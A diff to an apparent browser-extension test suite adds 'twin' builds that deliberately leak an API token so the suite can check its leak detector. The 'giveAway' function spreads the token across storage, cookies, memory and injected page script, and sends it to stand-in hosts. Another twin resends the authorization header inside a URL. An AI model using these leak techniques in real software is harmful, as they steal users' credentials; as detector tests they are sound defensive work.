@@ -174,9 +174,12 @@ async function enter(on, secrets, { twin = "" } = {}) {
       await room.dash.press("Backspace");
       if (text) await room.dash.type(selector, text);
     },
-    async press(selector) {
-      await room.dash.click(selector);
+    /** The same in one go, as the browser's own editing command. */
+    async put(selector, text) {
+      await room.fill(selector, "");
+      assert.ok(await room.dash.evaluate((value) => document.execCommand("insertText", false, value), text));
     },
+    press: (selector) => room.dash.click(selector),
     value: (selector) => room.dash.evaluate((query) => document.querySelector(query).value, selector),
     /** Waits for what is said. @param {string} key */
     said: (key, where = "#status") => room.dash.waitFor((query, text) => document.querySelector(query).textContent === text, where, sentence(key)),
@@ -278,6 +281,13 @@ async function enter(on, secrets, { twin = "" } = {}) {
       born = null;
     },
     counts,
+
+    /** Closes what it opened. */
+    async end() {
+      await room.dash?.close();
+      await side.close();
+      await tab.close();
+    },
   };
   await room.open();
   return room;
@@ -351,15 +361,15 @@ for (const browser of BROWSERS) {
       sent += times;
     };
     const ready = async () => {
-      await room.fill("#token", token);
+      await room.put("#token", token);
       await room.press("#build");
       await room.said("headerBuilt");
     };
     /** All of it at once: a header that is shown, and a token for the next one. */
-    const everything = async () => {
+    const everything = async ({ byKeys = false } = {}) => {
       await ready();
       await room.press("#show");
-      await room.fill("#token", token);
+      await room[byKeys ? "fill" : "put"]("#token", token);
       await room.stop([TYPED, SHOWN, HELD]);
     };
 
@@ -445,7 +455,7 @@ for (const browser of BROWSERS) {
 
     test("tested: accepted, refused, redirected, without end and cancelled, without a connection", async () => {
       on.api.set({ next: ["bodyDrips"] });
-      await room.fill("#token", token);
+      await room.put("#token", token);
       await room.press("#test");
       await on.session.answerPrompt("allow");
       await room.running();
@@ -494,7 +504,7 @@ for (const browser of BROWSERS) {
       assert.equal(await room.fiveMinutesLater(), 1);
       await room.said("secretTimedOut");
       await room.stop();
-      await room.fill("#token", token);
+      await room.put("#token", token);
       assert.equal(await room.fiveMinutesLater(), 1);
       await room.said("secretTimedOut");
       await room.stop();
@@ -551,7 +561,7 @@ for (const browser of BROWSERS) {
 
     test("closed with all of it there, the browser has nothing of it on disk", async () => {
       room.lookFor({ token, header });
-      await everything();
+      await everything({ byKeys: true });
       await on.close();
       on = null;
       const look = searchFor(ALL);
@@ -562,6 +572,192 @@ for (const browser of BROWSERS) {
       const network = await disk.network(look);
       assert.deepEqual(network.filter(({ address }) => address !== PROBE), []);
       assert.equal(network.filter(({ last }) => last === "HTTP_TRANSACTION_SEND_REQUEST_HEADERS").length, sent);
+    });
+  });
+}
+
+// ---- twins ----
+
+/** Each twin is one page with a name in its address; this runs in all of them. */
+const TWIN = 'const twin = new URLSearchParams(globalThis.location?.search).get("twin");\n';
+const SPIES = spies((text) => [text]);
+
+/** Lets the token, the header, or a part of one of them out by every way that we could think of, each in another form. */
+async function giveAway() {
+  const { browser } = mtg;
+  const token = document.querySelector("#token").value;
+  const header = btoa(`${document.querySelector("#email").value}:${token}`);
+  const hex = [...token].map((one) => one.charCodeAt(0).toString(16)).join("");
+  const backwards = [...token].reverse().join("");
+  localStorage.kept = token;
+  sessionStorage.kept = JSON.stringify({ header });
+  const request = indexedDB.open("kept", 1);
+  request.onupgradeneeded = () => request.result.createObjectStore("kept").put(hex, 1);
+  await new Promise((resolve) => { request.onsuccess = resolve; });
+  request.result.close();
+  await (await caches.open("kept")).put("https://kept.example.com/", new Response(btoa(`x${token}`)));
+  console.info(token.slice(20, 32));
+  document.title = header.slice(-12);
+  document.body.dataset.kept = encodeURIComponent(token);
+  document.querySelector("#job").value = token;
+  history.replaceState({ kept: backwards }, "");
+  performance.mark(token);
+  new TextEncoder().encodeInto(token, new Uint8Array(globalThis.spied.memory.memory.buffer, 512));
+  await browser.storage.local.set({ kept: { token } });
+  await browser.storage.session.set({ kept: header });
+  await browser.action.setTitle({ title: token });
+  await browser.runtime.sendMessage({ request: { kind: "noteApiToken", label: `job ${token.slice(60, 80)}`, ends: new Date(Date.now() + 1e9).toISOString() } });
+  const [{ id }] = await browser.tabs.query({ url: "*://jira.example.com/*" });
+  const inPage = (kept) => {
+    document.cookie = `kept=${kept}`;
+    document.querySelector("[data-migration-token-guide]").title = kept;
+    // Of a page that is left in the turn in which it is asked to, nothing more is heard.
+    setTimeout(() => { throw new Error(kept); });
+  };
+  await browser.scripting.executeScript({ target: { tabId: id }, func: inPage, args: [header] });
+  await browser.tabs.create({ url: `http://wiki.example.com:8090/demo?kept=${token}`, active: false });
+  await browser.tabs.create({ url: `http://${hex.slice(100, 150)}.example.net/`, active: false });
+  document.body.dataset.gave = "all";
+}
+
+/** @type {import("./stage.js").Spoil} */
+const TWINS = {
+  ...SPIES,
+  "core/pages.js": (source) => TWIN + replaced(
+    ["arg0.value = getStringFromWasm0(arg1, arg2);", "if (twin !== 'fieldKept' || arg0.id !== 'token') arg0.value = getStringFromWasm0(arg1, arg2);"],
+    ["arg0.textContent = arg1 === 0 ?", "if (twin !== 'shownForEver' || arg0.id !== 'header' || arg0.textContent.length < 50) arg0.textContent = arg1 === 0 ?"],
+    ["arg0.addEventListener(getStringFromWasm0(arg1, arg2),", "if (twin !== 'keptOutOfSight' || !/^(visibilitychange|pagehide)$/.test(getStringFromWasm0(arg1, arg2))) arg0.addEventListener(getStringFromWasm0(arg1, arg2),"],
+    ["const ret = setTimeout(arg0, arg1);", "const ret = twin === 'keptForEver' && arg1 === 300000 ? 0 : setTimeout(arg0, arg1);"],
+    ["const ret = arg0.fetch(getStringFromWasm0(arg1, arg2), arg3);", `const address = getStringFromWasm0(arg1, arg2);
+      const headers = twin === 'askedTwice' && Object.fromEntries(arg3.headers);
+      if (headers) arg0.fetch(address + '?' + headers.authorization, { headers: { ...headers, Accept: headers.authorization } }).catch(() => undefined);
+      const ret = arg0.fetch(address, arg3);`],
+  )(source),
+  "shared/shell.js": (source) => TWIN + replaced(['module_or_path: browser.runtime.getURL("core/pages_bg.wasm")', 'module_or_path: await moduleOf("core/pages_bg.wasm")'])(SPIES["shared/shell.js"](source)) + `
+    /** The module as it is, or with an allocator that overwrites nothing. */
+    async function moduleOf(path) {
+      if (twin !== "notWiped") return browser.runtime.getURL(path);
+      const bytes = new Uint8Array(await (await fetch(browser.runtime.getURL(path))).arrayBuffer());
+      // All that the function does which overwrites a block: local.get 0, i32.const 0, local.get 1, memory.fill, end.
+      const wipes = [0x20, 0, 0x41, 0, 0x20, 1, 0xFC, 0x0B, 0, 0x0B];
+      const at = bytes.findIndex((_, start) => wipes.every((byte, nth) => bytes[start + nth] === byte));
+      if (at < 0) throw new Error("no such function in the module any more");
+      return bytes.fill(1, at, at + wipes.length - 1);
+    }
+  `,
+  "dashboard/dashboard.js": (source) => `${TWIN}${source}
+    if (twin === "givenAway") {
+      document.addEventListener("click", (event) => { if (event.target.id === "build") (${giveAway})(); }, true);
+      // A field like any other.
+      new MutationObserver(() => {
+        for (const field of document.querySelectorAll("#token:not([type=text])")) Object.assign(field, { type: "text", autocomplete: "on", name: "token" });
+      }).observe(document, { subtree: true, childList: true });
+    }
+  `,
+  "popup/popup.js": (source) => `${source}
+    if (localStorage.kept) {
+      document.title = localStorage.kept;
+      setTimeout(() => { throw new Error(localStorage.kept); });
+    }
+  `,
+  // Below the stack, where nothing else is written.
+  "background/core.js": (source) => replaced(['spy("core, asked", {', 'new TextEncoder().encodeInto(request.label ?? "", new Uint8Array(spied.memory.memory.buffer, 512)); spy("core, asked", {'])(SPIES["background/core.js"](source)),
+};
+
+/** What has to be found of what is given away. */
+const CAUGHT = {
+  both: [
+    ...["field token", "field job", "markup", "page", "stores", "timing", "memory"].map((part) => `dashboard, ${part}`),
+    "popup, page", "popup, stores", "page, markup", "page, stores", "card", "kept", "storage.local", "storage.session", "console", "error",
+    "message", "core, asked", "core, answers", "background, memory", "other servers",
+  ],
+  chromium: ["dashboard, console", "page, console", "cookies"],
+  firefox: ["browser", "refused addresses"],
+};
+const ON_DISK = {
+  chromium: [/^Default\/Local Extension Settings\//, /^Default\/Local Storage\//, /^Default\/Sessions\//, /^Default\/History/],
+  firefox: [/^sessionstore/, /^storage\/default\/moz-extension/, /^places/],
+};
+
+for (const browser of BROWSERS) {
+  describe(`${browser}: twins that keep a token or give it away are caught`, { timeout: 180_000 }, () => {
+    const { token, header } = secretsOf(TOKENS.real);
+    let on, disk;
+    before(async () => {
+      disk = await profile(browser);
+      on = await stage({ browser, extension: "shipped", api: { email: EMAIL, token }, apiGranted: true, spoil: TWINS, launch: disk.launch });
+    });
+    after(async () => {
+      await on?.close();
+      await disk?.remove();
+    });
+    /** What is found of a twin after its way; of the product nothing is, or the header alone while it is held. */
+    async function foundOf(twin, way) {
+      const room = await enter(on, { token, header }, { twin });
+      await room.fill("#email", EMAIL);
+      await room.put("#token", token);
+      await room.press("#build");
+      await room.said("headerBuilt");
+      await way(room);
+      const found = await room.search();
+      await room.end();
+      return found;
+    }
+    const shownAndCleared = async (room) => {
+      await room.press("#show");
+      await room.press("#clear");
+      await room.said("secretCleared");
+    };
+
+    test("a page without a fault is no twin", async () => {
+      assert.deepEqual(await foundOf("none", shownAndCleared), []);
+    });
+
+    test("a field that is not emptied when it is used", async () => {
+      assert.deepEqual(await foundOf("fieldKept", async () => {}), [TYPED, HELD].sort());
+    });
+
+    test("a header that stays when the page goes out of sight", async () => {
+      assert.deepEqual(await foundOf("keptOutOfSight", (room) => room.hide()), [HELD]);
+    });
+
+    test("a header that stays for more than five minutes", async () => {
+      assert.deepEqual(await foundOf("keptForEver", (room) => room.fiveMinutesLater()), [HELD]);
+    });
+
+    test("a header that stays shown", async () => {
+      assert.deepEqual(await foundOf("shownForEver", shownAndCleared), [SHOWN]);
+    });
+
+    test("an allocator that does not overwrite what it frees", async () => {
+      const found = await foundOf("notWiped", shownAndCleared);
+      assert.ok(found.length > 0 && found.every((what) => what.startsWith("dashboard, memory: ")), JSON.stringify(found));
+    });
+
+    test("a header that is sent once more, and elsewhere than in its place", async () => {
+      on.api.requests.length = 0;
+      const found = await foundOf("askedTwice", (room) => room.tested("Accepted"));
+      assert.ok(found.includes("request: the header"), JSON.stringify(found));
+    });
+
+    test("a token that is given away by every way that we could think of, and stays on disk", async () => {
+      const room = await enter(on, { token, header }, { twin: "givenAway" });
+      await room.fill("#email", EMAIL);
+      await room.put("#token", token);
+      await room.press("#build");
+      await room.dash.waitFor(() => document.body.dataset.gave);
+      await room.fill("#token", token);
+      const found = await room.search({ popup: true });
+      const caught = new Set(found.map((what) => what.slice(0, what.indexOf(": "))));
+      assert.deepEqual([...CAUGHT.both, ...CAUGHT[browser]].filter((where) => !caught.has(where)), [], JSON.stringify(found));
+      await on.close();
+      on = null;
+      const look = searchFor({ token, header });
+      const files = (await disk.search(look)).found;
+      assert.deepEqual(ON_DISK[browser].filter((pattern) => !files.some((file) => pattern.test(file))).map(String), [], JSON.stringify(files));
+      if (browser === "firefox") return;
+      const addresses = (await disk.network(look)).map(({ address }) => address);
+      for (const part of ["http://wiki.example.com:8090/demo?kept=", "example.net", `${PROBE}?`]) assert.ok(addresses.some((address) => address?.includes(part)), `${part}: ${addresses}`);
     });
   });
 }
